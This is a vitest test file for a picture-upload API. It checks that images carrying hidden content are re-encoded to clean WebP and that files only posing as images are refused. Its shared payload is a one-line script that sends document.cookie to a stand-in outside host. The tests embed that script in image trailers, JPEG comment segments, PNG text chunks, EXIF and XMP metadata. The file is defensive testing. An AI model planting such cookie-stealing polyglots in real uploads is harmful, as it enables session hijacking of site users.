import { crc32 } from 'node:zlib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startTestApp, type TestApp } from '../../support/app/test-app.ts'
import { client } from '../../support/app/client.ts'
import { signUp, type Member } from '../../support/app/members.ts'

let app: TestApp
let editor: Member
beforeAll(async () => {
  app = await startTestApp()
  editor = await signUp(app, { role: 'editor' })
})
afterAll(() => app.close())

const upload = (file: Buffer) => client(app, editor).upload('/api/pictures', 'image/png', file)

/** Content that no filter would detect: only re-encoding the pixels removes it. */
const foreignContent = Buffer.from('=1;fetch("//elsewhere.example/"+document.cookie)//')

const picture = () =>
  sharp({ create: { width: 90, height: 60, channels: 3, background: { r: 20, g: 90, b: 160 } } })
const concatBytes = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)))
const number = (size: 2 | 4, value: number) => {
  const bytes = Buffer.alloc(size)
  bytes.writeUIntBE(value, 0, size)
  return bytes
}

/** Creates a PNG with an additional chunk after its header. */
async function createPngWithChunk(name: string, data: Buffer) {
  const png = await picture().png().toBuffer()
  const body = concatBytes(name, data)
  const chunk = concatBytes(number(4, data.length), body, number(4, crc32(body)))
  return concatBytes(png.subarray(0, 33), chunk, png.subarray(33))
}

/** Creates a JPEG with an additional segment after its first bytes. */
async function createJpegWithSegment(marker: number, data: Buffer) {
  const jpeg = await picture().jpeg().toBuffer()
  const segment = concatBytes(Buffer.from([0xff, marker]), number(2, data.length + 2), data)
  return concatBytes(jpeg.subarray(0, 2), segment, jpeg.subarray(2))
}

describe('a polyglot picture', () => {
  const cases: [string, () => Promise<Buffer>][] = [
    ['a script behind a JPEG', async () => concatBytes(await picture().jpeg().toBuffer(), foreignContent)],
    ['a script behind a PNG', async () => concatBytes(await picture().png().toBuffer(), foreignContent)],
    ['a script behind a GIF', async () => concatBytes(await picture().gif().toBuffer(), foreignContent)],
    ['a script behind a WebP', async () => concatBytes(await picture().webp().toBuffer(), foreignContent)],
    [
      'an archive of another kind behind a PNG',
      async () => concatBytes(await picture().png().toBuffer(), '7z\xbc\xaf\x27\x1c', foreignContent),
    ],
    ['a script in the comment of a JPEG', () => createJpegWithSegment(0xfe, foreignContent)],
    ['a script where a JPEG keeps what programs note', () => createJpegWithSegment(0xeb, foreignContent)],
    [
      'a script in the text of a PNG',
      () => createPngWithChunk('tEXt', concatBytes('Comment\0', foreignContent)),
    ],
    ['a script in a chunk that nobody knows', () => createPngWithChunk('meLd', foreignContent)],
    [
      'a script in the notes of the camera',
      () =>
        picture()
          .withExif({ IFD0: { Copyright: foreignContent.toString() } })
          .jpeg()
          .toBuffer(),
    ],
    [
      'a script in what describes the picture',
      () =>
        picture()
          .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${foreignContent.toString()}</x:xmpmeta>`)
          .jpeg()
          .toBuffer(),
    ],
  ]
  it.each(cases)('is served without any of the other format’s bytes: %s', async (_name, make) => {
    const file = await make()
    expect(file.includes(foreignContent)).toBe(true)
    const { status, body } = await upload(file)
    expect([status, body.error]).toEqual([201, undefined])
    for (const width of [800, 1600]) {
      const { rawPayload } = await app.inject(body.imageUrl.replace('1600', String(width)))
      expect(rawPayload.includes(foreignContent)).toBe(false)
      // A single WebP from the first to the last byte, with only the image data.
      expect(rawPayload.subarray(0, 4).toString()).toBe('RIFF')
      expect(rawPayload.readUInt32LE(4) + 8).toBe(rawPayload.length)
      expect(rawPayload.subarray(8, 16).toString()).toBe('WEBPVP8 ')
    }
  })
})

describe('a file that only begins like a picture', () => {
  const nothing = Buffer.alloc(400, ' ')
  it.each([
    ['a JPEG', Buffer.from('ffd8ffe0', 'hex')],
    ['a PNG', Buffer.from('89504e470d0a1a0a', 'hex')],
    ['a GIF', Buffer.from('GIF89a')],
    ['a WebP', concatBytes('RIFF', number(4, 400), 'WEBP')],
    ['an AVIF', concatBytes(number(4, 32), 'ftypavif')],
  ])('is refused with a sentence: a script that claims to be %s', async (_name, start) => {
    const { status, body } = await upload(concatBytes(start, foreignContent, nothing))
    expect(status).toBe(400)
    expect(body.error).toBe('This picture is damaged or incomplete. Please choose another file.')
  })

  it.each([
    ['an archive', concatBytes('PK\x03\x04', foreignContent)],
    ['a script', foreignContent],
    ['a BMP', concatBytes('BM', nothing)],
    ['a TIFF', concatBytes('II*\0', nothing)],
    ['a PDF', concatBytes('%PDF-1.7\n', nothing)],
    ['an SVG', concatBytes('<svg xmlns="http://www.w3.org/2000/svg"/>')],
  ])('is refused without such a beginning too: %s', async (_name, file) => {
    const { status, body } = await upload(file)
    expect(status).toBe(415)
    expect(body.error).toMatch(/^We can’t read this file\. Please choose .+\.$/)
  })
})
